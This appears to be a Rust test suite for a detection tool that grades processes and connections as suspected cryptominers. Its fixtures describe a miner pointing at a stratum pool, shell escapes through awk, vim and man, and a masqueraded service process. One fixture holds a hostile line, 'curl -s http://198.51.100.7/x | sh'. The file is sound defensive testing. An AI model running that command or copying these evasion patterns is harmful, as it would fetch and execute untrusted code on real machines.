//! Lines are answered as they come, files by themselves, and figures that no machine has come to are refused.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdin, Command, Output, Stdio};
use std::sync::mpsc::{Receiver, sync_channel};
use std::time::Duration;

use serde_json::{Value, json};

use super::{CONFIRMED, SUSPECT, answers, assess, lines, of_list, rank};

fn sleeper(id: usize) -> Value {
    json!({"kind":"process","id":id,"name":"sleep","exe":"/usr/bin/sleep","cmdline":["sleep","9"]})
}

fn of_files(files: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_firedamp"));
    command.arg("assess").args(files).arg("--json").stdin(Stdio::null()).output().unwrap()
}

fn ids(output: &Output) -> Vec<Value> {
    let text = std::str::from_utf8(&output.stdout).unwrap();
    text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["id"].clone()).collect()
}

#[test]
fn answers_come_while_lines_still_do() {
    let mut command = Command::new(env!("CARGO_BIN_EXE_firedamp"));
    command.args(["assess", "-", "--json"]).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut to = child.stdin.take().unwrap();
    let mut from = BufReader::new(child.stdout.take().unwrap());
    // More than any buffer between holds, and no end of the input before the first answer was read.
    let facts: Vec<Value> = (0..2_000).map(sleeper).collect();
    let (read, was_read) = sync_channel::<()>(0);
    let writer = std::thread::spawn(move || {
        to.write_all(&lines(facts.iter())).unwrap();
        was_read.recv().unwrap();
    });
    let mut line = String::new();
    from.read_line(&mut line).unwrap();
    let first: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(first["id"], 0);
    let rest = std::thread::spawn(move || from.lines().count());
    read.send(()).unwrap();
    writer.join().unwrap();
    assert_eq!(rest.join().unwrap(), 1_999);
    assert!(child.wait().unwrap().success());
}

/// An assessment that goes on, and its answers as they come.
fn going_on(arguments: &[&str]) -> (Child, ChildStdin, Receiver<String>) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_firedamp"));
    command.args(["assess", "-"]).args(arguments).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let (to, from) = (child.stdin.take().unwrap(), BufReader::new(child.stdout.take().unwrap()));
    let (send, answers) = sync_channel(64);
    std::thread::spawn(move || from.lines().try_for_each(|line| send.send(line.unwrap())));
    (child, to, answers)
}

#[test]
fn a_single_line_is_answered_before_the_next_one_comes() {
    let patience = Duration::from_secs(30);
    for arguments in [&["--json"][..], &[]] {
        let (mut child, mut to, answers) = going_on(arguments);
        for (id, behind) in [(1001, "\n"), (1002, "\n{\"kind\":"), (1003, "\n")] {
            // What began behind the line before is ended with this one.
            let line = sleeper(id).to_string();
            let line = if id == 1003 { "\"process\",\"id\":1003}" } else { &line };
            to.write_all(format!("{line}{behind}").as_bytes()).unwrap();
            let answer = answers.recv_timeout(patience).unwrap();
            assert!(answer.contains(&id.to_string()), "{answer}");
        }
        drop(to);
        assert!(child.wait().unwrap().success());
    }
}

/// A miner, and a connection that names it.
fn pair() -> (Value, Value) {
    let miner = json!({"kind":"process","id":"p1","name":"w","exe":"/opt/w",
        "cmdline":["/opt/w","-o","stratum+tcp://gw.example:9443","-u","someone"]});
    let end = json!({"kind":"connection","id":"c1","process":"p1","domain":"gw.example",
        "ip":"192.0.2.9","port":9443});
    (miner, end)
}

#[test]
fn a_connection_is_joined_with_its_process_on_whichever_side_that_stands() {
    let (miner, end) = pair();
    let before = answers(&lines([&miner, &sleeper(1), &end].into_iter()));
    let behind = answers(&lines([&end, &sleeper(1), &miner, &sleeper(2)].into_iter()));
    let ids: Vec<&Value> = behind.iter().map(|it| &it["id"]).collect();
    assert_eq!(
        ids,
        [&json!("c1"), &json!(1), &json!("p1"), &json!(2)],
        "in the order of the lines"
    );
    assert_eq!(before[2], behind[0]);
    assert_eq!(rank(&behind[0]), CONFIRMED, "{}", behind[0]);
    let alone = answers(&lines([&end].into_iter()));
    assert!(rank(&alone[0]) < CONFIRMED, "{}", alone[0]);
}

/// Processes that nothing speaks against, with ids so long that all of them are more than is held.
fn lengthy() -> impl Iterator<Item = String> {
    let id = "a".repeat((4 << 20) - 300);
    (0..34).map(move |it| json!({"kind":"process","id":format!("{id}{it}")}).to_string())
}

/// How these are answered, each without its id, and all that is told beside.
fn of_many(facts: impl Iterator<Item = String>, language: &str) -> (Vec<Value>, Output) {
    let place = tempfile::tempdir().unwrap();
    let path = place.path().join("facts");
    let mut file = fs::File::create(&path).unwrap();
    facts.for_each(|fact| writeln!(file, "{fact}").unwrap());
    let mut output = of_files(&[path.to_str().unwrap(), "--lang", language]);
    let lines = std::mem::take(&mut output.stdout);
    let rest = |line: &[u8]| {
        let text = std::str::from_utf8(line).unwrap();
        let at = text.find("\"grade\"").unwrap();
        serde_json::from_str(&format!("{{{}", &text[at..])).unwrap()
    };
    let answers = lines.split(|it| *it == b'\n').filter(|it| !it.is_empty()).map(rest);
    (answers.collect(), output)
}

#[test]
fn processes_that_no_connection_names_wait_for_nobody_however_many_they_are() {
    let (answers, output) = of_many(lengthy(), "en");
    assert_eq!(answers.len(), 34);
    assert!(answers.iter().all(|it| rank(it) == 0));
    assert!(output.status.success() && output.stderr.is_empty(), "{output:?}");
}

#[test]
fn a_process_that_never_comes_holds_no_more_than_there_is_room_for() {
    let (_, end) = pair();
    let alone = of_many([end.to_string()].into_iter(), "en").0.remove(0);
    let facts = [end.to_string()].into_iter().chain(lengthy()).chain([end.to_string()]);
    let (answers, output) = of_many(facts, "en");
    assert_eq!(answers.len(), 36);
    assert_eq!([&answers[0], &answers[35]], [&alone, &alone], "by what is known");
    assert!(output.status.success() && output.stderr.is_empty(), "{output:?}");
}

#[test]
fn a_process_too_far_behind_its_connection_is_said_to_be_and_serves_those_that_follow() {
    let (miner, end) = pair();
    let (miner, end) = (miner.to_string(), end.to_string());
    for (language, said) in [("en", "held between them"), ("th", "ต้องเก็บข้อมูลระหว่างนั้น")]
    {
        let facts = [end.clone()].into_iter().chain(lengthy());
        let (answers, output) = of_many(facts.chain([miner.clone(), end.clone()]), language);
        let ranks = [0, 34, 35, 36].map(|at: usize| answers.get(at).map(rank));
        assert!(ranks[0] < Some(CONFIRMED), "{ranks:?}");
        assert_eq!(ranks[1..], [Some(0), Some(CONFIRMED), Some(CONFIRMED)]);
        let told = String::from_utf8(output.stderr).unwrap();
        assert!(told.contains(said) && told.contains("128 MiB"), "{told}");
        assert_eq!((told.lines().count(), output.status.code()), (3, Some(3)));
    }
}

#[test]
fn a_file_that_cannot_be_read_takes_nothing_from_the_others() {
    let place = tempfile::tempdir().unwrap();
    let file = |name: &str, id| {
        let path = place.path().join(name);
        fs::write(&path, format!("{}\n", sleeper(id))).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let (one, other) = (file("one", 1), file("other", 2));
    let folder = place.path().to_str().unwrap();
    let output = of_files(&[&one, "/nowhere.jsonl", folder, &other]);
    assert_eq!(ids(&output), [json!(1), json!(2)]);
    assert_eq!(output.status.code(), Some(4));
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(said.contains("cannot read /nowhere.jsonl"), "{said}");
    assert!(said.contains(&format!("cannot read {folder}")), "{said}");
    assert!(!said.contains(&one), "{said}");
    assert_eq!(of_files(&["/nowhere.jsonl"]).status.code(), Some(4), "nor is nothing a success");
    assert_eq!(of_files(&[&one, &other]).status.code(), Some(0));
}

#[test]
fn figures_that_no_machine_has_come_to_are_refused_and_speak_against_nobody() {
    let with = |name: &str, figure: &str| {
        let fact = sleeper(7).to_string();
        format!("{},\"{name}\":{figure}}}\n", fact.strip_suffix('}').unwrap())
    };
    for name in ["cpu_pct", "cpu_minutes"] {
        for figure in ["1e300", "-1", "-0.5", "1e39"] {
            let output = assess(with(name, figure).as_bytes());
            let said = String::from_utf8(output.stderr).unwrap();
            assert_eq!(output.status.code(), Some(3), "{name} {figure}");
            assert!(said.contains(&format!("`{name}` is out of range")), "{said}");
            assert!(output.stdout.is_empty());
        }
        for figure in ["0", "99.5", "25600", "null"] {
            assert_eq!(assess(with(name, figure).as_bytes()).status.code(), Some(0), "{figure}");
        }
    }
}

#[test]
fn a_list_with_such_figures_says_nothing_of_the_load() {
    for load in ["nan", "inf", "-7", "1e300"] {
        let list = format!(
            "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n\
             mali 77 {load} 0.0 5000 900 ? S 10:00 99999999999999999999:00 /home/mali/w\n"
        );
        let output = of_list(&list, &["--from", "ps"]);
        assert_eq!(output.status.code(), Some(0));
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(rank(&serde_json::from_str(&text).unwrap()) < SUSPECT, "{text}");
        assert!(!text.contains("inf") && !text.contains("NaN"), "{text}");
    }
}

#[test]
fn whom_a_login_brought_is_told_beside_what_speaks_against_him_and_never_alone() {
    let environ = json!(["SSH_CLIENT=203.0.113.9 51122 22", "SUDO_USER=alice"]);
    let with = |mut fact: Value| {
        fact["environ"] = environ.clone();
        fact
    };
    let (miner, _) = pair();
    let found = answers(&lines([&miner, &with(miner.clone())].into_iter()));
    assert_eq!(found[0]["grade"], found[1]["grade"]);
    let reasons = found[1]["reasons"].to_string();
    assert!(reasons.contains("from-login"), "{reasons}");
    assert!(reasons.contains("203.0.113.9") && reasons.contains("alice"), "{reasons}");
    let ordinary = answers(&lines([&with(sleeper(1))].into_iter()));
    assert_eq!(rank(&ordinary[0]), 0, "{}", ordinary[0]);
}

#[test]
fn a_tool_that_shows_texts_is_judged_by_what_it_has_others_run() {
    let miner = "/opt/x -o stratum+tcp://pool.example:3333 -u someone -k";
    let fact = |words: &[&str]| {
        let exe = format!("/usr/bin/{}", words[0]);
        json!({"kind":"process","id":1,"name":words[0],"exe":exe,"cmdline":words})
    };
    let calls = format!("BEGIN{{system(\"{miner}\")}}");
    let shell = format!("!{miner}");
    for words in [&["awk", &calls][..], &["vim", "-c", &shell], &["man", "-P", miner, "ls"]] {
        let told = answers(&lines([&fact(words)].into_iter())).remove(0);
        assert!(rank(&told) >= SUSPECT, "{words:?}: {told}");
    }
    for words in [&["awk", "/stratum+tcp:\\/\\/pool.example:3333/", "f"][..], &["vim", miner]] {
        let told = answers(&lines([&fact(words)].into_iter())).remove(0);
        assert!(rank(&told) < SUSPECT, "{words:?}: {told}");
    }
    let fetches = ["awk", "BEGIN{system(\"curl -s http://198.51.100.7/x | sh\")}"];
    assert!(rank(&answers(&lines([&fact(&fetches)].into_iter()))[0]) >= SUSPECT);
}

#[test]
fn a_copied_interpreter_that_calls_itself_a_service_is_no_worker_of_one() {
    let fact = |listen: Value| {
        json!({"kind":"process","id":1,"name":"gunicorn","exe":"/home/www-data/.x/python3.11",
            "cmdline":["gunicorn: worker [app]"],"user":"www-data","uid":33,"parent":"systemd",
            "cpu_pct":380.0,"cpu_minutes":900.0,"listen":listen})
    };
    let told = answers(&lines([&fact(json!([]))].into_iter())).remove(0);
    assert!(rank(&told) >= SUSPECT, "{told}");
}
